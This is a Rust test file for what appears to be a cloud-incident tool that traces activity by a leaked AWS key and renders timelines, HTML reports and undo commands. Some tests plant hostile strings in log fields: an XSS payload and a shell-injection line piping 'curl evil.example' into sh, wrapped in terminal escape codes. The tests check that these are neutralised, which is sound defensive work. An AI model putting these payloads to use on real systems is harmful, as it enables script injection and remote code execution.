//! How a trace is shown.

use std::{io::Read, process::Stdio};

use super::*;

#[test]
fn json_obeys_its_schema_and_the_timeline_has_every_call() {
    let (result, _) = trace(&[KEY, ATTACK]);
    let calls = result["summary"]["calls"].as_u64().unwrap();
    assert!(calls > 50 && result["leftBehind"].as_array().unwrap().len() >= 3);
    let lines = scan(&["trace", KEY, ATTACK, "--format", "ndjson"]);
    let lines: Vec<Value> = lines.stdout.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(lines.len() as u64, calls);
    assert!(lines.windows(2).all(|two| two[0]["eventTime"].as_str() <= two[1]["eventTime"].as_str()));
    let csv = scan(&["trace", KEY, ATTACK, "--format", "csv"]);
    assert_eq!(csv.stdout.lines().count() as u64, calls + 1);

    let validator = folder("trace").join("result.json");
    fs::write(&validator, result.to_string() + "\n").unwrap();
    let mut command = Command::new(python());
    command.arg(path("tools/validate_alerts.py")).arg("trace").stdin(fs::File::open(&validator).unwrap());
    assert_eq!(run(command).stdout, "ok\n");
}

/// Compared with the records as plain JSON.
#[test]
fn a_line_of_the_timeline_has_the_fields_of_its_record() {
    let records = records();
    let by_id: BTreeMap<&str, &Value> =
        records.iter().map(|record| (record["eventID"].as_str().unwrap(), record)).collect();
    let timeline = scan(&["trace", KEY, ATTACK, "--format", "ndjson"]).stdout;
    let mut outcomes = BTreeSet::new();
    for line in timeline.lines() {
        let line: Value = serde_json::from_str(line).unwrap();
        let record = by_id[line["eventID"].as_str().unwrap()];
        for field in ["eventTime", "awsRegion", "eventSource", "eventName", "errorCode", "sourceIPAddress", "userAgent"]
        {
            assert_eq!(line[field], record[field], "{field}: {record}");
        }
        assert_eq!(line["accountId"], record["recipientAccountId"]);
        let outcome = match record["errorCode"].as_str() {
            None => "succeeded",
            Some("AccessDenied" | "Client.UnauthorizedOperation") => "denied",
            Some("Client.DryRunOperation") => "dryRun",
            Some(_) => "failed",
        };
        assert_eq!(line["outcome"], outcome, "{record}");
        outcomes.insert(outcome);
    }
    assert!(outcomes.len() >= 3, "{outcomes:?}");
}

#[test]
fn what_only_removed_the_attackers_own_things_is_not_to_be_undone() {
    let shown = scan(&["trace", KEY, ATTACK]).stdout;
    let part = |title: &str| shown.split_once(title).unwrap().1.split("\n\n").next().unwrap();
    // The key made them, and deleted or detached them minutes later.
    assert!(part("\nNOTHING TO UNDO").contains("deleted secret") && part("\nUNDO").contains("role session"), "{shown}");
    for own in ["deleted secret", "policy detached from a user"] {
        assert!(!part("\nUNDO").contains(own), "{own}: {shown}");
    }
    let deactivated = part("\nDEACTIVATE FIRST");
    assert!(deactivated.contains(&format!("--user-name='bert-jan' --access-key-id='{KEY}'")), "{shown}");
    // It was deleted later.
    assert!(!deactivated.contains("AKIATFQR7NSCQLA2F4OD"), "{shown}");
}

#[test]
fn a_page_has_nothing_of_a_log_as_markup() {
    let attack = "</script><img src=x onerror=alert(1)>";
    let user = json!({ "type": "IAMUser", "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "userName": attack, "arn": attack });
    let call = json!({
        "eventID": attack, "eventTime": "2026-11-24T03:00:00Z", "eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
        "userIdentity": user, "userAgent": attack, "sourceIPAddress": attack, "requestParameters": { "userName": attack },
    });
    let folder = folder("page");
    fs::write(folder.join("log.json.gz"), stored(&[call])).unwrap();
    let file = folder.join("report.html");
    let run = scan(&[
        "trace",
        "AKIAIOSFODNN7EXAMPLE",
        folder.to_str().unwrap(),
        "--format",
        "html",
        "--output",
        file.to_str().unwrap(),
    ]);
    assert_eq!(run.status, Some(1), "{}", run.stderr);
    let page = fs::read_to_string(&file).unwrap();
    assert!(
        page.contains("&lt;img src=x onerror=alert(1)&gt;") && page.contains(r"\u003c/script>\u003cimg src=x"),
        "{page}"
    );
    assert!(!page.contains("<img") && page.matches("</script>").count() == 2);
    assert!(page.contains("default-src 'none'; style-src 'sha256-") && !page.contains("unsafe"));
}

#[test]
fn a_reader_that_closes_the_pipe_early_is_not_an_error() {
    let user = json!({ "type": "IAMUser", "accessKeyId": "AKIAIOSFODNN7EXAMPLE" });
    let record = |id: u32| json!({ "eventID": id.to_string(), "eventName": "ListUsers", "eventSource": "iam.amazonaws.com", "userIdentity": user });
    let folder = folder("closed-pipe");
    fs::write(folder.join("log.json.gz"), stored(&(0..2000).map(record).collect::<Vec<_>>())).unwrap();
    for format in ["csv", "ndjson"] {
        let mut command = Command::new(env!("CARGO_BIN_EXE_quarantine-scan"));
        command.args(["trace", "AKIAIOSFODNN7EXAMPLE", "--format", format]).arg(&folder);
        let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        // More is coming than a pipe holds.
        child.stdout.take().unwrap().read_exact(&mut [0; 100]).unwrap();
        let ended = child.wait_with_output().unwrap();
        assert_eq!(ended.status.code(), Some(1), "{format}: {}", String::from_utf8_lossy(&ended.stderr));
    }
}

#[test]
fn nothing_in_a_log_acts_on_a_terminal_or_a_shell() {
    let hostile = "x\u{1b}[2J'; curl evil.example | sh #\u{202e}";
    let record = json!({
        "eventID": hostile, "eventTime": "2026-11-24T03:00:00Z", "eventSource": "iam.amazonaws.com", "eventName": "CreateUser",
        "userIdentity": { "type": "IAMUser", "accessKeyId": "AKIAIOSFODNN7EXAMPLE", "userName": hostile, "arn": hostile },
        "recipientAccountId": "123456789012", "sourceIPAddress": hostile, "userAgent": hostile, "awsRegion": hostile,
        "requestParameters": { "userName": hostile },
    });
    for format in ["table", "json", "ndjson", "csv"] {
        let traced = scan_stream(
            &["trace", "AKIAIOSFODNN7EXAMPLE", "-", "--format", format],
            &stored(std::slice::from_ref(&record)),
        );
        assert_eq!(traced.status, Some(1), "{}", traced.stderr);
        assert!(!traced.stdout.contains(['\u{1b}', '\u{202e}']), "{format}: {}", traced.stdout);
        if format == "table" {
            let undo = traced.stdout.lines().find(|line| line.contains("undo: ")).unwrap();
            assert!(undo.contains("delete-user --user-name='<userName>'") && !undo.contains("evil"), "{undo}");
        }
    }
}
